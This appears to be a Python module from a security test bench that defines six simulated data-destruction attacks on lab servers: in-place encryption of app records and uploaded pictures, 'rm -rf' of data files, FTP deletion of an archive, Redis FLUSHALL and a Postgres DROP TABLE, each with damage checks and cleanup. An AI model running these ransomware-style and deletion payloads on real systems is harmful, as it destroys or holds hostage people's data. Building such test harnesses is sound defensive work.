# SPDX-License-Identifier: GPL-2.0
"""Encryption and deletion of data, by a process that may write them."""

import pathlib
import random

from bench.attacks.attack import LOSS, Attack, ByApp, ByPhp
from bench.clients import files, resp, sql
from bench.net import CLIENTS, INTRUDER
from bench.servers.app import RECORDS
from bench.servers.app import ROOT as APP
from bench.servers.nginx import ROOT as WEB
from bench.servers.server import home
from bench.servers.vsftpd import ARCHIVE


class AppEncrypt(ByApp):
    """All records become something that only the intruder can read."""

    name = "encrypt-app-data"

    def run(self):
        self.python(f"""
import glob, hashlib, os
for name in glob.glob("{APP}/data/*.json"):
    with open(name, "rb") as file:
        data = file.read()
    key = hashlib.shake_256(b"key" + name.encode()).digest(len(data))
    with open(name + ".locked", "wb") as file:
        file.write(bytes(a ^ b for a, b in zip(data, key)))
    os.unlink(name)
""")

    def damaged(self):
        return sum(not pathlib.Path(f"{APP}/data/{n}.json").exists() for n in range(RECORDS)) >= LOSS * RECORDS

    def cleanup(self):
        for path in pathlib.Path(f"{APP}/data").glob("*.locked"):
            path.unlink()
        self.world.servers["app"].fill()


class AppDelete(AppEncrypt):
    """All records are removed, by a program for it."""

    name = "delete-app-data"

    def run(self):
        self.shell(f"rm -rf {APP}/data/*.json")


class PhpEncrypt(ByPhp):
    """All pictures, in place."""

    name = "encrypt-php-uploads"
    total = 80

    def setup(self):
        super().setup()
        dice = random.Random(2)
        self.plain = {f"family-{n}.png": dice.randbytes(1500) for n in range(self.total)}
        for name, data in self.plain.items():
            # They were uploaded long ago.
            path = pathlib.Path(f"{WEB}/uploads/{name}")
            path.write_bytes(data)
            path.chmod(0o666)

    def run(self):
        self.php(f"""
foreach (glob('{WEB}/uploads/family-*.png') as $f) {{
	$plain = file_get_contents($f);
	file_put_contents($f, openssl_encrypt($plain, 'aes-256-ctr', 'key', OPENSSL_RAW_DATA, str_repeat('i', 16)));
}}
""")

    def damaged(self):
        spoiled = sum(pathlib.Path(f"{WEB}/uploads/{name}").read_bytes() != data for name, data in self.plain.items())
        return spoiled >= LOSS * self.total

    def cleanup(self):
        super().cleanup()
        for name in self.plain:
            pathlib.Path(f"{WEB}/uploads/{name}").unlink(missing_ok=True)


class FtpDelete(Attack):
    """Somebody's archive, with the password."""

    name = "delete-ftp-archive"
    servers = ("vsftpd",)
    patience = 60

    def run(self):
        with files.session("alice", self.world.password("alice"), INTRUDER, 15) as ftp:
            for name in ftp.nlst("archive"):
                ftp.delete(name)

    def damaged(self):
        left = len(list((home("alice") / "archive").glob("*.dat")))
        return ARCHIVE - left >= LOSS * ARCHIVE

    def cleanup(self):
        self.world.servers["vsftpd"].fill()


class RedisFlush(Attack):
    """One command, from somebody who is allowed to give it."""

    name = "delete-redis-flush"
    servers = ("redis",)
    help = "a command filter, or redis' own ACL: to KIS it is one small request like any other"

    def run(self):
        resp.once("FLUSHALL", source=INTRUDER)

    def damaged(self):
        return resp.once("EXISTS", "account:0") == 0

    def cleanup(self):
        self.world.servers["redis"].fill()


class PostgresDrop(Attack):
    """The table is removed by its owner."""

    name = "delete-postgres-drop"
    servers = ("postgresql",)
    help = "privileges inside of the database: its owner removes tables by the same files as in each migration"

    def setup(self):
        sql.once("CREATE TABLE customers AS SELECT * FROM accounts", CLIENTS[0])

    def run(self):
        sql.once("DROP TABLE customers", INTRUDER)

    def damaged(self):
        return not sql.once("SELECT 1 FROM pg_tables WHERE tablename = 'customers'", CLIENTS[0])

    def cleanup(self):
        sql.once("DROP TABLE IF EXISTS customers", CLIENTS[0])


ATTACKS = [AppEncrypt, AppDelete, PhpEncrypt, FtpDelete, RedisFlush, PostgresDrop]
